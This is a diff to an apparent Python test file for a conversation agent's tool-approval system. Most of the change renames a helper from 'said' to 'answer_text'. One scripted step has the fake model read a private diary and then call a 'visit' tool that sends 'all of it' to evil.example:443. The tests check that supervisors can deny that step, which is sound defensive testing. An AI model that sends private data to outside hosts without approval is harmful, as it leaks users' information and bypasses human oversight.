@@ -21,13 +21,21 @@ from conversations.toolbox import approvals
 from conversations.turns import turns
 from tests.faults.oracle import check_rows
 from tests.support import people_and_turns, toy_tools
-from tests.support.running_turns import ended, is_valid, queue, said, supervising, unrecorded, until
+from tests.support.running_turns import (
+    answer_text,
+    ended,
+    is_valid,
+    queue,
+    supervising,
+    unrecorded,
+    until,
+)
 
 pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.asyncio]
 SCRIPT = Script([
     when("please fire", call("peek", at="a"), call("fire", at="b"), call("put", at="c")),
     when("read and tell", call("read_diary")),
-    after("read_diary", call("visit", host="evil.example:443", said="all of it")),
+    after("read_diary", call("visit", host="evil.example:443", answer_text="all of it")),
     after("visit", say("It says: {result}")),
     after("put", say("It says: {result}")),
     when("", say("Yes.")),
@@ -135,7 +143,7 @@ async def test_telling_others_after_a_private_reading_waits_and_denied_tells_nob
         supervisor.wake((await run_db(decide, "denied")).pk)
         row = await ended(turn)
     assert [name for name, _ in toy_tools.ran(ran)] == ["read_diary"]
-    assert "did not allow" in await run_db(said, row)
+    assert "did not allow" in await run_db(answer_text, row)
     await accounted(emulator, row)
 
 
